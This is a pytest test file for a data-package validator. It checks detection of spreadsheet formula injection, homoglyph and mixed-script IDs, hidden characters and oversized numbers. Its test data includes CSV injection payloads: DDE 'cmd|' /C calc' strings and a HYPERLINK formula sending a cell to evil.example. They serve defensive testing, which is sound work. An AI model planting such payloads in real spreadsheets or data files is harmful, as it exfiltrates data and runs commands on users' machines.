"""What is right, and yet will be read wrongly: honest texts are left in peace."""

import gzip
import hashlib
import json
import sys
import unicodedata
from functools import cache, partial

import pytest

from depositary.checks.fields import reader
from depositary.checks.oddities import in_number, in_text, looks, may_be_odd_ids
from depositary.checks.packages import check_package

V2 = "https://datapackage.org/profiles/2.0/datapackage.json"
BY_ROWS = {"commentChar": "\x7f"}
WAYS = {"by the column": {}, "by rows": BY_ROWS}

RUN = {
    "=1+1": "whatever follows = is worked out",
    "=A1": "shows another cell",
    '=HYPERLINK("http://evil.example?"&A1;"here")': "sends a cell away",
    "= 5": "a space does not help",
    "=-2": "nor a sign",
    "=cmd|' /C calc'!A0": "starts a program (DDE)",
    "=@SUM(1)": "a function",
    "={1,2}": "a list",
    "='my sheet'!A1": "another sheet",
    "@SUM(1+9)*cmd|' /C calc'!A0": "@ begins a function since Lotus 1-2-3",
    '@HYPERLINK ("http://evil.example")': "with a space before the bracket",
    "+SUM(1,2)": "a sign begins a formula as well",
    "-2+3+cmd|' /C calc'!A0": "the usual example (OWASP)",
    "-2+3+cmd|'/C calc'!_xlbgnm.A1": "and its variant",
    "- WEBSERVICE(A1)": "with a space",
    "-1*IMPORTXML(A1,B1)": "a function further on",
    "+A1": "shows another cell",
    "-$B$12*2": "works with it",
    "+Sheet1!A1": "of another sheet",
    "+1+1": "a sum takes the place of the text",
    "-2*3": "and a product",
    "-1/2": "and a quotient",
    "-(1+1)": "in brackets too",
    '+"a"&A1': "a text put together",
    "\t=1+1": "a tab is left out (OWASP)",
    "\r=1+1": "a return too",
    "\n=1+1": "and a line feed",
    "\t-SUM(A1)": "before a sign as well",
    "＝1+1": "the wide forms of East Asia are taken for = + - @",
    "＋１＋１": "digits too",
    "－SUM(A1)": "",
    "＠SUM(A1)": "",
}
SHOWN = {
    "-": "nothing follows",
    "--": "",
    "---": "a line",
    "=": "nothing follows",
    "====": "a line",
    "=== Title ===": "no formula begins so",
    "=> see below": "an arrow",
    "=) thanks": "a face",
    "-->": "an arrow",
    "- item": "a list",
    "-item": "a word cut off: an error is shown, nothing is run",
    "- item(s)": "a plural is no function",
    "- see the note (below)": "a bracket after a word",
    "- yes | no": "a choice",
    "- yes, no!": "an exclamation",
    '- "quoted" words': "",
    "-5": "a number",
    "+5.2 %": "",
    "-1.5e+10": "with an exponent",
    "-5, -3": "two numbers",
    "-10 to 20": "a range",
    "-10-20": "two ends of a range",
    "+44 20 7946 0000": "a telephone number",
    "+44 (0)20 7946": "",
    "+49 30/1234": "",
    "+1-202-555-0100": "a difference to a spreadsheet; but so telephone numbers are written",
    "@name": "an account: to spreadsheets an error at most",
    "@name (the real one)": "",
    "@2x": "",
    "+B2B": "",
    "-B12 is a vitamin": "",
    "\tindented": "a tab before a text",
    "\t- item": "",
    "+": "",
    "-∞": "",
    "a=1+1": "it has to begin so",
    "'=1+1": "the quote makes it a text",
    "（=1)": "a wide bracket",
}


@pytest.mark.parametrize("cell", RUN, ids=ascii)
def test_what_a_spreadsheet_would_run_is_told(cell):
    found = in_text(cell, is_id=False)

    assert found is not None
    assert (found.code, found.kind) == ("E216", "formula")


@pytest.mark.parametrize("cell", SHOWN, ids=ascii)
def test_what_a_spreadsheet_would_show_is_left_in_peace(cell):
    assert in_text(cell, is_id=False) is None


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t="])
@pytest.mark.parametrize("part", ["a", "a ", "|", "a|", " ", "(", "a.", "1", "1,", '"', "-", "$A1"])
def test_a_cell_of_a_million_letters_is_judged_at_once(part, lead):
    in_text(lead + part * 500_000, is_id=True)


def package(folder, text, fields, dialect, **schema):
    (folder / "t.csv").write_text(text, encoding="utf-8", newline="")
    described = {"fields": [{"name": each, "type": kind} for each, kind in fields.items()]}
    resource = {"name": "t", "path": "t.csv", "schema": described | schema, "dialect": dialect}
    descriptor = folder / "datapackage.json"
    descriptor.write_text(json.dumps({"$schema": V2, "resources": [resource]}))
    return descriptor


def told(findings):
    return [(each.code, each.line, each.column, each.field) for each in findings]


@pytest.mark.parametrize("dialect", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize(
    "schema",
    [
        {"primaryKey": ["id"]},
        {"uniqueKeys": [["id", "up"]]},
        {"foreignKeys": [{"fields": ["id"], "reference": {"resource": "", "fields": ["up"]}}]},
        {"foreignKeys": [{"fields": ["up"], "reference": {"resource": "", "fields": ["id"]}}]},
    ],
    ids=["primary", "unique", "refers", "is referred to"],
)
def test_a_mixed_script_is_told_in_every_column_that_rows_are_told_apart_by(
    schema, dialect, tmp_path
):
    text = "id,up\n\N{CYRILLIC SMALL LETTER A}ct,\N{CYRILLIC SMALL LETTER A}ct\n"
    descriptor = package(tmp_path, text, {"id": "string", "up": "string"}, dialect, **schema)

    findings, _ = check_package(descriptor)

    assert ("E215", 2, 1, "id") in told(findings)


def test_a_title_that_quotes_another_language_is_no_mixed_script():
    title = "\N{CYRILLIC SMALL LETTER ES} New York"

    assert in_text(title, is_id=True) is None


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("\u0430\u0441\u0435", "ace"),
        ("e\u0301t\u00e9", "\u00e9te\u0301"),
        ("\uff41ct-1", "act-1"),
        ("act\u20111", "act-1"),
        ("act\u00a01", "act 1"),
    ],
    ids=ascii,
)
def test_texts_that_look_the_same_are_known_for_it(one, other):
    assert looks(one) == looks(other)


@pytest.mark.parametrize(("one", "other"), [("m\u00b2", "m2"), ("A", "a"), ("\u00e9", "e")])
def test_texts_that_look_different_are_not_taken_for_one(one, other):
    assert looks(one) != looks(other)


@pytest.mark.parametrize(
    ("kind", "cell", "is_told"),
    [
        ("integer", "9223372036854775807", False),
        ("integer", "9223372036854775808", True),
        ("integer", "-9223372036854775809", True),
        ("integer", "0000000000000000000001", False),
        ("number", "1e308", False),
        ("number", "1e309", True),
        ("number", "6.02214076e23", False),
        ("number", "100000000000000000000", False),
        ("number", "100000000000000000001", True),
        ("number", "0.1000000000000000000001", False),
        ("number", "INF", False),
    ],
)
def test_a_number_past_64_bits_is_told_where_programs_would_change_it(kind, cell, is_told):
    value = reader({}, kind)(cell)

    found = in_number(kind, cell, value)

    assert (found is not None and found.code == "E217") == is_told


def test_no_latin_letter_is_missed_where_all_ids_are_looked_at_together():
    """A word with it and a Cyrillic letter mixes scripts."""
    letters = [chr(point) for point in range(sys.maxunicode) if chr(point).isalpha()]
    latin = [each for each in letters if unicodedata.name(each, "").startswith("LATIN ")]

    missed = [each for each in latin if not may_be_odd_ids(f"\N{CYRILLIC SMALL LETTER A}{each}")]

    assert missed == []


# ── what is wrong with the bytes of a file, in whatever it is kept and however large ────────────
PACKED = {"": bytes, ".gz": partial(gzip.compress, compresslevel=1)}
FAULTS = {
    "nul": (b"a,b\0c", "E114", (3, 4), "The line holds a NUL character."),
    "byte": (b"a,b\xe9c", "E102", (3, 4), "Byte 0xe9 is not utf-8 text."),
    "quoted": (b'a,"b\nc\xff"', "E102", (4, 2), "Byte 0xff is not utf-8 text."),
    "ends": (b"a,b\r", "E126", (3, 4), "The record ends with CRLF"),
    "hidden": ("a,b\u202e".encode(), "E214", (3, 3), '"b\\u202e" holds a character'),
    "formula": (b"a,=1+1", "E216", (3, 3), '"=1+1" would be taken for a formula'),
}


@cache
def rows(size):
    """Rows that hardly repeat, so that packed they are no bomb; large: more than one block."""
    letters = hashlib.shake_256(b"rows").hexdigest(5_000_000 if size == "large" else 50).encode()
    return b"".join(
        letters[at : at + 10] + b"," + letters[at + 10 : at + 50] + b"\n"
        for at in range(0, len(letters) - 50, 50)
    )


@pytest.mark.parametrize("size", ["small", "large"])
@pytest.mark.parametrize("packed", PACKED)
@pytest.mark.parametrize("fault", FAULTS)
def test_a_fault_in_the_bytes_has_its_line_and_column_in_every_kind_of_file(
    fault, packed, size, tmp_path
):
    line, code, place, message = FAULTS[fault]
    first = b"id,note\n1,one\n2,two\n"
    second = b"id,note\n3,three\n" + line + b"\n" + rows(size)
    paths = ["a.csv" + packed, "b.csv" + packed]
    for path, data in zip(paths, (first, second), strict=True):
        (tmp_path / path).write_bytes(PACKED[packed](data))
    fields = [{"name": "id", "type": "string"}, {"name": "note", "type": "string"}]
    resource = {"name": "t", "path": paths, "schema": {"fields": fields}}
    descriptor = tmp_path / "datapackage.json"
    descriptor.write_text(json.dumps({"$schema": V2, "resources": [resource]}))

    [finding], _ = check_package(descriptor)

    assert (finding.code, finding.file, finding.line, finding.column) == (code, paths[1], *place)
    assert finding.message.startswith(message)


@pytest.mark.parametrize("form", ["json", "jsonl", "inline"])
@pytest.mark.parametrize("number", ["9223372036854775808000", "1e400"])
def test_a_number_in_a_json_row_that_programs_round_is_told_once(number, form, tmp_path):
    row = f'{{"n": {number}}}'
    schema = {"fields": [{"name": "n", "type": "number"}]}
    resource = {"name": "t", "path": f"t.{form}", "type": "table", "schema": schema}
    (tmp_path / f"t.{form}").write_text(f"[{row}]" if form == "json" else row)
    text = json.dumps({"$schema": V2, "resources": [resource]})
    if form == "inline":
        text = text.replace('"path": "t.inline"', f'"data": [{row}]')
    descriptor = tmp_path / "datapackage.json"
    descriptor.write_text(text)

    findings, _ = check_package(descriptor)

    assert [(each.code, each.severity) for each in findings] == [("E123", "warning")]
    assert findings[0].line == 1
